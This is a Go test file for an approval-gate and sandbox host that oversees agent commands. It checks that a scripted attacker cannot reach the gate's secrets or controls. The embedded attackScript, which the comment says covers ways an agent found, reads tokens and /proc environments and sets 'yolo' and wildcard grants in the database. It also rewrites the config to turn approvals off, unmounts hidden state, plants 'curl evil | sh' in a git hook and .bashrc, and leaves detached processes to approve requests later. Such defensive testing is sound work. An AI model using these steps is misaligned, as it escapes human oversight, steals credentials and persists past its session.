package host

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/wardenhq/warden/internal/gate"
	"github.com/wardenhq/warden/internal/localapi"
	"github.com/wardenhq/warden/internal/store"
)

// attackScript tries, from inside whatever runs it, every way an agent
// found (issue 12) and more to reach warden's control plane: read the
// console token and the state files, open the database and set a
// session's yolo or insert a grant, overwrite the config (absolute,
// relative after cd, $XDG_CONFIG_HOME, a glob, a symlink, copying a
// parent directory), reach the admin and worker sockets, read the
// host's /proc, signal the host, plant a git hook, unmount a hidden
// path, and leave a detached process behind to approve a pending
// request later. Each attempt prints "tried NAME"; the test judges the
// outcome on the host, never the script's own word.
const attackScript = `#!/bin/sh
S='@STATE@'; C='@CONFIG@'; CD='@CONFIGDIR@'; H='@HOSTPID@'; MARK='@MARK@'
exec 2>&1
t() { echo "tried $1"; }
# Reading the control plane's secrets.
cat "$S/token"; t token-absolute
(cd "$S" && cat token); t token-relative
cat "$S"/*; t state-glob
find "$HOME" -name token -exec cat {} \; ; t token-find
cat "$C"; t config-read
cat "${XDG_CONFIG_HOME:-$HOME/.config}/warden/config.yaml"; t config-xdg-read
cat /proc/$H/environ; t host-environ
cat /proc/$H/cmdline; t host-cmdline
cat "/proc/$H/root$S/token"; t host-root-link
cat "/proc/$H/cwd/token"; t host-cwd-link
head -c 64 /proc/1/mem; t helper-mem
cat /proc/1/environ; t helper-environ
ls -la "$S" "$S/shellstate"; t state-list
# The database: read it, set yolo on the victim's session, add a grant.
if command -v sqlite3 >/dev/null; then
	sqlite3 "$S/warden.db" "select pattern from grants"; t sqlite-read
	sqlite3 "$S/warden.db" "update sessions set yolo=1"; t sqlite-yolo
	sqlite3 "$S/warden.db" "insert into grants (id, scope, grain, pattern, created) values ('evil', 'permanent', 'class', '*', '2026-01-01T00:00:00.000000000Z')"; t sqlite-grant
fi
if command -v python3 >/dev/null; then
	python3 -c "
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute(\"update sessions set yolo=1\")
db.execute(\"insert into grants (id, scope, grain, pattern, created) values ('evil2', 'permanent', 'class', '*', '2026-01-01T00:00:00.000000000Z')\")
db.commit()
" "$S/warden.db"; t python-sqlite
fi
# The config, every way.
echo "approvals: {mode: off} # $MARK" > "$C"; t config-absolute
(cd "$CD" && echo "approvals: {mode: off} # $MARK" > ./config.yaml); t config-relative
echo "approvals: {mode: off} # $MARK" > "${XDG_CONFIG_HOME:-$HOME/.config}/warden/config.yaml"; t config-xdg
for f in "$HOME"/.config/w*/c*.yaml; do echo "approvals: {mode: off} # $MARK" > "$f"; done; t config-glob
ln -sf "$C" link.yaml && echo "approvals: {mode: off} # $MARK" > link.yaml; t config-symlink
mkdir -p evil/warden && echo "approvals: {mode: off} # $MARK" > evil/warden/config.yaml && cp -rf evil/. "$HOME/.config/"; t config-copy-parent
rm -f "$C"; t config-rm
mv "$CD" "$CD.bak"; t config-dir-mv
rm -rf "$S/token" "$S/warden.db"; t state-rm
echo "$MARK" > "$S/token"; t token-overwrite
# The sockets and the host.
if command -v python3 >/dev/null; then
	for sock in "$S/warden.sock" "$S/worker.sock"; do
		python3 -c "
import socket, sys
s = socket.socket(socket.AF_UNIX)
s.connect(sys.argv[1])
s.sendall(b'GET /v1/approvals HTTP/1.0\r\n\r\n')
print(s.recv(4096))
" "$sock"; t "socket $sock"
	done
fi
kill -0 "$H"; t host-visible
kill -URG "$H"; t host-signal
# Unmount what hides the state directory, from a new user namespace.
unshare -rm sh -c "umount -l '$S'; cat '$S/token'"; t unmount
# Files the user's tools run later.
mkdir -p .git/hooks; echo "curl evil | sh # $MARK" > .git/hooks/pre-commit; t git-hook
echo "[core] hooksPath = /tmp # $MARK" >> .git/config; t git-config
echo "curl evil | sh # $MARK" >> "$HOME/.bashrc"; t bashrc
# A detached process that would approve the pending request later.
setsid sh -c "while :; do cat '$S/token' >/dev/null 2>&1 && echo $MARK; sleep 0.05; done # detached-$MARK" </dev/null >/dev/null 2>&1 &
nohup sh -c "sleep 600 # nohup-$MARK" </dev/null >/dev/null 2>&1 &
( sh -c "sleep 600 # double-fork-$MARK" </dev/null >/dev/null 2>&1 & ) &
t detached
echo attack-done
`

// attacks are the names the script reports, in order.
var attacks = []string{
	"token-absolute", "token-relative", "state-glob", "token-find", "config-read", "config-xdg-read",
	"host-environ", "host-cmdline", "host-root-link", "host-cwd-link", "helper-mem", "helper-environ", "state-list",
	"config-absolute", "config-relative", "config-xdg", "config-glob", "config-symlink", "config-copy-parent",
	"config-rm", "config-dir-mv", "state-rm", "token-overwrite", "host-visible", "host-signal", "unmount",
	"git-hook", "git-config", "bashrc", "detached",
}

// attackHost is a host whose state and config are where the CLI puts
// them by default (under the user's home), with unattended modes that
// approve, so nothing the gate could judge stands between the attacks
// and the sandbox.
type attackHost struct {
	*testHost
	home, work, conf, state, mark string
	confBytes, token              []byte
	apiToken                      string
}

func newAttackHost(t *testing.T, yaml string) *attackHost {
	t.Helper()
	root := t.TempDir()
	a := &attackHost{
		home: filepath.Join(root, "home"), work: filepath.Join(root, "work"),
		mark: fmt.Sprintf("warden-attack-%d", time.Now().UnixNano()),
	}
	a.conf = filepath.Join(a.home, ".config", "warden", "config.yaml")
	a.state = filepath.Join(a.home, ".local", "state", "warden")
	mkdir(t, filepath.Dir(a.conf))
	mkdir(t, filepath.Join(a.work, ".git", "hooks"))
	a.confBytes = []byte(yaml)
	must(t, os.WriteFile(a.conf, a.confBytes, 0o600))
	must(t, os.WriteFile(filepath.Join(a.home, ".bashrc"), []byte("# bashrc\n"), 0o644))
	must(t, os.WriteFile(filepath.Join(a.work, ".git", "config"), []byte("[core]\n"), 0o644))
	cfg := newConfig(t)
	cfg.StateDir, cfg.ConfigPath = a.state, a.conf
	cfg.ScratchDir = filepath.Join(a.home, ".cache", "warden", "scratch")
	cfg.Environ = hostEnv(a.home)
	cfg.Paths = gate.Paths{Home: a.home, Protected: []string{filepath.Dir(a.conf)}}
	a.testHost = startHost(t, cfg)
	// A secret in the state directory (as the console token file was;
	// credentials are now kept hashed in the store), and a real API
	// token: neither may reach an agent.
	a.token = []byte(fmt.Sprintf("canary-%d", time.Now().UnixNano()))
	must(t, os.WriteFile(filepath.Join(a.state, "token"), a.token, 0o600))
	a.apiToken = a.testHost.apiToken(t, "admin")
	return a
}

func must(t testing.TB, err error) {
	t.Helper()
	if err != nil {
		t.Fatal(err)
	}
}

// script writes the attack script into dir.
func (a *attackHost) script(t *testing.T, dir string) {
	t.Helper()
	s := strings.NewReplacer("@STATE@", a.state, "@CONFIG@", a.conf, "@CONFIGDIR@", filepath.Dir(a.conf),
		"@HOSTPID@", strconv.Itoa(os.Getpid()), "@MARK@", a.mark).Replace(attackScript)
	mkdir(t, dir)
	must(t, os.WriteFile(filepath.Join(dir, "attack.sh"), []byte(s), 0o755))
}

// exec runs command as web session key in dir and returns its output.
func (a *attackHost) exec(t *testing.T, key, command, dir string) string {
	t.Helper()
	var out strings.Builder
	err := a.client.Exec(t.Context(), localapi.ExecRequest{Session: key, Command: command, Dir: dir}, func(e localapi.Event) error {
		switch e.Event {
		case localapi.EventStdout, localapi.EventStderr:
			out.WriteString(e.Data)
		case localapi.EventDenied, localapi.EventError:
			out.WriteString("[" + e.Event + ": " + e.Message + "]")
		}
		return nil
	})
	must(t, err)
	return out.String()
}

// checkHeld asserts the outcomes: nothing leaked into the output, the
// config, token and git and shell files are as they were, no session
// has yolo, the grants are the ones before, the pending request is
// still pending with no answer, the host serves, and nothing the attack
// started is still running.
func (a *attackHost) checkHeld(t *testing.T, who, out, dir string, grantsBefore int, pending string) {
	t.Helper()
	if !strings.Contains(out, "attack-done") {
		t.Fatalf("%s: the attack script did not run to its end:\n%s", who, out)
	}
	for _, name := range attacks {
		if !strings.Contains(out, "tried "+name+"\n") {
			t.Errorf("%s: attack %s did not run", who, name)
		}
	}
	if bytes.Contains([]byte(out), a.token) || strings.Contains(out, a.apiToken) {
		t.Errorf("%s: a secret of the state directory leaked into the output", who)
	}
	if strings.Contains(out, "approvals:") || strings.Contains(out, "sandbox-marker") {
		t.Errorf("%s: the config leaked into the output:\n%s", who, out)
	}
	if b, err := os.ReadFile(a.conf); err != nil || !bytes.Equal(b, a.confBytes) {
		t.Errorf("%s: config changed: %q %v", who, b, err)
	}
	if b, err := os.ReadFile(filepath.Join(a.state, "token")); err != nil || !bytes.Equal(b, a.token) {
		t.Errorf("%s: token changed: %v", who, err)
	}
	for _, p := range []string{filepath.Join(dir, ".git", "hooks", "pre-commit"), filepath.Dir(a.conf) + ".bak", filepath.Join(a.home, ".config", "evil")} {
		if _, err := os.Stat(p); err == nil {
			t.Errorf("%s: %s was created", who, p)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(dir, ".git", "config")); string(b) != "[core]\n" {
		t.Errorf("%s: .git/config changed: %q", who, b)
	}
	if b, _ := os.ReadFile(filepath.Join(a.home, ".bashrc")); string(b) != "# bashrc\n" {
		t.Errorf("%s: .bashrc changed: %q", who, b)
	}
	ctx := t.Context()
	sessions, err := a.st.ListSessions(ctx)
	must(t, err)
	for _, s := range sessions {
		if s.Yolo && s.Key != "attacker" {
			t.Errorf("%s: session %s has yolo on", who, s.Key)
		}
	}
	grants, err := a.client.Grants(ctx)
	must(t, err)
	if len(grants) != grantsBefore {
		t.Errorf("%s: %d grants, want %d: %+v", who, len(grants), grantsBefore, grants)
	}
	if r, err := a.st.GetRequest(ctx, pending); err != nil || r.State != store.Pending || r.By != "" {
		t.Errorf("%s: the pending request: %+v %v", who, r, err)
	}
	if left := hostProcs(a.mark); len(left) > 0 {
		t.Errorf("%s: processes the attack started outlived it: %v", who, left)
	}
}

// hostProcs returns the pids of live processes whose command line
// holds marker.
func hostProcs(marker string) []int {
	var out []int
	entries, _ := os.ReadDir("/proc")
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil || pid == os.Getpid() {
			continue
		}
		b, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		st, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "stat"))
		if i := bytes.LastIndexByte(st, ')'); i > 0 && len(st) > i+2 && st[i+2] == 'Z' {
			continue
		}
		if bytes.Contains(b, []byte(marker)) {
			out = append(out, pid)
		}
	}
	return out
}

// TestAttackerSuite is issue 12's attacker suite on a real host with the
// real sandbox: every attack of the list, from a web session's terminal
// (under session yolo, and as a command the analyser judges safe), a
// cron step and a kanban task (unattended modes approve). Each run is
// judged by what changed on the host, and the audit shows every attempt.
func TestAttackerSuite(t *testing.T) {
	requireTools(t, "python3", "sqlite3", "unshare")
	a := newAttackHost(t, "# sandbox-marker\napprovals:\n  mode: manual\n  timeout: 600\n  cron_mode: approve\n  kanban_mode: approve\n")
	ctx := t.Context()

	// A victim session with a question pending, and a grant on record.
	victim := startExec(ctx, a.client, localapi.ExecRequest{Session: "victim", Command: "rm -rf ./precious", Dir: a.work})
	pendingEv, _ := victim.until(t, localapi.EventPending)
	grants, err := a.client.Grants(ctx)
	must(t, err)

	// The attacker's web session, with yolo on (the operator's choice),
	// so even the commands the gate calls dangerous run.
	a.exec(t, "attacker", "true", a.work)
	must(t, a.st.SetYolo(ctx, "attacker", true))

	a.script(t, a.work)
	t.Run("web session", func(t *testing.T) {
		out := a.exec(t, "attacker", "sh attack.sh", a.work)
		a.checkHeld(t, "web session", out, a.work, len(grants), pendingEv.ID)
	})
	t.Run("web session, inline under yolo", func(t *testing.T) {
		for _, cmd := range []string{
			"sqlite3 " + a.state + "/warden.db 'update sessions set yolo=1'",
			"cp /dev/null " + a.conf,
			"cat " + a.state + "/token",
			"setsid sh -c 'sleep 600 # " + a.mark + "' >/dev/null 2>&1 &",
		} {
			out := a.exec(t, "attacker", cmd, a.work)
			if bytes.Contains([]byte(out), a.token) {
				t.Errorf("%s: leaked the token", cmd)
			}
		}
		a.checkHeld(t, "inline", "attack-done\n"+triedAll(), a.work, len(grants), pendingEv.ID)
	})
	t.Run("cron step", func(t *testing.T) {
		dir := filepath.Join(a.cfg.ScratchDir, CronDir)
		a.script(t, dir)
		must(t, os.MkdirAll(filepath.Join(dir, ".git", "hooks"), 0o755))
		must(t, os.WriteFile(filepath.Join(dir, ".git", "config"), []byte("[core]\n"), 0o644))
		_, err := a.client.AddCronJob(ctx, localapi.CronAddRequest{Name: "attack", Schedule: "@yearly", Steps: []string{"sh attack.sh"}})
		must(t, err)
		r, err := a.client.RunCronJob(ctx, "attack")
		must(t, err)
		run, err := a.client.CronRun(ctx, r.ID, true)
		must(t, err)
		if len(run.Steps) != 1 || run.Steps[0].Verdict != "allow" {
			t.Fatalf("cron run: %+v", run)
		}
		a.checkHeld(t, "cron step", run.Steps[0].Output, dir, len(grants), pendingEv.ID)
	})
	t.Run("kanban task", func(t *testing.T) {
		task, err := a.client.AddKanbanTask(ctx, localapi.KanbanAddRequest{Title: "attack", Workspace: "dir:" + a.work, Steps: []string{"sh attack.sh"}})
		must(t, err)
		card := waitTask(t, a.client, task.ID, store.TaskDone, store.TaskBlocked)
		s := stepOutput(t, card, "sh attack.sh")
		if s.Verdict != "allow" {
			t.Fatalf("kanban step: %+v", s)
		}
		a.checkHeld(t, "kanban task", s.Output, a.work, len(grants), pendingEv.ID)
	})

	// The audit shows each attempt, as its owner, with the sandbox it
	// ran in.
	ds, err := a.st.Decisions(ctx, store.AuditFilter{})
	must(t, err)
	seen := map[string]bool{}
	for _, d := range ds {
		if d.Payload == "sh attack.sh" {
			seen[strings.SplitN(d.OwnerText, ":", 2)[0]] = true
			if d.Sandbox != "workspace-write" {
				t.Errorf("audit record %d: sandbox %q", d.Seq, d.Sandbox)
			}
		}
	}
	for _, kind := range []string{"gateway", "cron", "kanban"} {
		if !seen[kind] {
			t.Errorf("no audit record of the %s attack: %v", kind, seen)
		}
	}
	// The host is alive and still holds the question.
	list, err := a.client.Approvals(ctx)
	if err != nil || !slices.ContainsFunc(list, func(x localapi.Approval) bool { return x.ID == pendingEv.ID }) {
		t.Errorf("pending after the attacks: %+v %v", list, err)
	}
}

func triedAll() string {
	var b strings.Builder
	for _, n := range attacks {
		b.WriteString("tried " + n + "\n")
	}
	return b.String()
}

// requireTools skips the test when a program it drives is missing,
// and fails it under WARDEN_FULL=1.
func requireTools(t *testing.T, names ...string) {
	t.Helper()
	for _, n := range names {
		if _, err := exec.LookPath(n); err != nil {
			if os.Getenv("WARDEN_FULL") == "1" {
				t.Fatalf("WARDEN_FULL=1 but %s is missing (.ci/run installs it)", n)
			}
			t.Skipf("%s is missing; set WARDEN_FULL=1 to make this a failure", n)
		}
	}
}

// TestDetachedProcessDiesWithTheCall: a tool call starts processes that
// would outlive it (setsid, nohup, a double fork); when the call ends
// they are gone.
func TestDetachedProcessDiesWithTheCall(t *testing.T) {
	cfg := newConfig(t)
	cfg.Yolo = true
	th := startHost(t, cfg)
	work := t.TempDir()
	mark := fmt.Sprintf("detached-%d", time.Now().UnixNano())
	var out strings.Builder
	err := th.client.Exec(t.Context(), localapi.ExecRequest{Session: "s", Dir: work, Command: `
setsid sh -c 'sleep 600 # ` + mark + `' </dev/null >/dev/null 2>&1 &
nohup sh -c 'sleep 600 # ` + mark + `' </dev/null >/dev/null 2>&1 &
( sh -c 'sleep 600 # ` + mark + `' </dev/null >/dev/null 2>&1 & ) &
sleep 0.2; echo started`}, func(e localapi.Event) error {
		out.WriteString(e.Data)
		return nil
	})
	if err != nil || !strings.Contains(out.String(), "started") {
		t.Fatalf("%v %q", err, out.String())
	}
	if left := hostProcs(mark); len(left) > 0 {
		t.Fatalf("processes outlived the call: %v", left)
	}
}

// TestSandboxFailsClosed: when the kernel cannot sandbox (the probe is
// made to fail), nothing runs: the command is refused with why, serve
// says so at start, the console shows it on every page; the config's
// explicit mode off runs commands and every audit record says so.
func TestSandboxFailsClosed(t *testing.T) {
	t.Run("kernel cannot", func(t *testing.T) {
		cfg := newConfig(t)
		cfg.Yolo = true
		cfg.sandboxProbe = func(context.Context) error { return fmt.Errorf("clone: operation not permitted") }
		th := startHost(t, cfg)
		work := t.TempDir()
		out := (&attackHost{testHost: th}).exec(t, "s", "touch ran", work)
		if _, err := os.Stat(filepath.Join(work, "ran")); err == nil {
			t.Fatal("the command ran without a sandbox")
		}
		if !strings.Contains(out, "sandbox is not available") || !strings.Contains(out, "warden doctor") {
			t.Errorf("refusal: %q", out)
		}
		if s := th.out.String(); !strings.Contains(s, "warning: sandbox UNAVAILABLE, every command is refused: the kernel could not start a sandbox: clone: operation not permitted") || !strings.Contains(s, "fix: ") {
			t.Errorf("banner:\n%s", s)
		}
		if _, page := newConsole(t, th).do("GET", "/pending", nil); !strings.Contains(page, "The sandbox is unavailable on this host") {
			t.Errorf("the console does not say the sandbox is unavailable")
		}
		ds, _ := th.st.Decisions(t.Context(), store.AuditFilter{Session: "s"})
		if len(ds) == 0 || ds[len(ds)-1].Sandbox != "unavailable" {
			t.Errorf("audit: %+v", ds)
		}
	})
	t.Run("mode off", func(t *testing.T) {
		cfg := newConfig(t)
		cfg.Yolo = true
		cfg.sandboxProbe = func(context.Context) error { return fmt.Errorf("must not be probed in mode off") }
		writeConfig(t, cfg, "sandbox: {mode: \"off\"}\n")
		th := startHost(t, cfg)
		work := t.TempDir()
		(&attackHost{testHost: th}).exec(t, "s", "touch ran", work)
		if _, err := os.Stat(filepath.Join(work, "ran")); err != nil {
			t.Fatalf("mode off did not run the command: %v", err)
		}
		if s := th.out.String(); !strings.Contains(s, "warning: sandbox OFF (sandbox.mode: off): commands run unconfined") {
			t.Errorf("banner:\n%s", s)
		}
		if _, page := newConsole(t, th).do("GET", "/pending", nil); !strings.Contains(page, "The sandbox is OFF") {
			t.Errorf("the console does not say the sandbox is off")
		}
		ds, err := th.st.Decisions(t.Context(), store.AuditFilter{Session: "s"})
		must(t, err)
		if len(ds) == 0 {
			t.Fatal("no audit records")
		}
		for _, d := range ds {
			if d.Sandbox != "off" {
				t.Errorf("audit record %d: sandbox %q, want off", d.Seq, d.Sandbox)
			}
		}
	})
}

// TestConsoleWorkspace: a host whose working directory cannot be a
// writable workspace (/, the home directory, an ancestor of it — a
// service's usually is) runs console commands in SCRATCH/console.
func TestConsoleWorkspace(t *testing.T) {
	root := t.TempDir()
	home, scratch := filepath.Join(root, "home"), filepath.Join(root, "scratch")
	mkdir(t, filepath.Join(home, "proj"))
	for wd, want := range map[string]string{
		"/": filepath.Join(scratch, ConsoleDir), home: filepath.Join(scratch, ConsoleDir), root: filepath.Join(scratch, ConsoleDir),
		filepath.Join(home, "proj"): "",
	} {
		got, err := consoleWorkspace(wd, scratch, home)
		if err != nil || got != want {
			t.Errorf("%s: %q %v, want %q", wd, got, err, want)
		}
	}
	if fi, err := os.Stat(filepath.Join(scratch, ConsoleDir)); err != nil || fi.Mode().Perm() != 0o700 {
		t.Errorf("console workspace: %v %v", fi, err)
	}
}

// TestSandboxOffLabelsQuestions: with the sandbox off, a question's own
// records (asked, answered — written by the store with the request)
// say so too, not only the gate's decisions.
func TestSandboxOffLabelsQuestions(t *testing.T) {
	cfg := configured(t, "sandbox: off\napprovals:\n  timeout: 600\n")
	th := startHost(t, cfg)
	work := t.TempDir()
	s := startExec(t.Context(), th.client, localapi.ExecRequest{Session: "q", Command: "rm -rf ./x", Dir: work})
	ev, _ := s.until(t, localapi.EventPending)
	if _, err := th.client.Deny(t.Context(), ev.ID, localapi.DenyRequest{Reason: "no"}); err != nil {
		t.Fatal(err)
	}
	s.until(t, localapi.EventDenied)
	ds, err := th.st.Decisions(t.Context(), store.AuditFilter{Session: "q"})
	must(t, err)
	if len(ds) < 2 {
		t.Fatalf("records: %+v", ds)
	}
	for _, d := range ds {
		if d.Sandbox != "off" {
			t.Errorf("record %d (%s %s): sandbox %q, want off", d.Seq, d.Verdict, d.Rule, d.Sandbox)
		}
	}
}

// TestLinkedTempDeleteIsAsked: a delete that reads as temporary but goes
// through a link the same line made (ln -s DIR /tmp/h; rm -rf /tmp/h/
// empties DIR) is asked about, not run; denied, DIR keeps its files.
func TestLinkedTempDeleteIsAsked(t *testing.T) {
	cfg := configured(t, "approvals:\n  timeout: 600\n")
	th := startHost(t, cfg)
	work := t.TempDir()
	keep := filepath.Join(work, "keep")
	mkdir(t, keep)
	must(t, os.WriteFile(filepath.Join(keep, "f"), []byte("precious\n"), 0o644))
	s := startExec(t.Context(), th.client, localapi.ExecRequest{Session: "l", Command: "ln -sfn " + keep + " /tmp/h && rm -rf /tmp/h/", Dir: work})
	ev, _ := s.until(t, localapi.EventPending)
	if _, err := os.Stat(filepath.Join(keep, "f")); err != nil {
		t.Fatalf("deleted while asked: %v", err)
	}
	if _, err := th.client.Deny(t.Context(), ev.ID, localapi.DenyRequest{Reason: "no"}); err != nil {
		t.Fatal(err)
	}
	s.until(t, localapi.EventDenied)
	if _, err := os.Stat(filepath.Join(keep, "f")); err != nil {
		t.Fatalf("the denied delete ran: %v", err)
	}
}
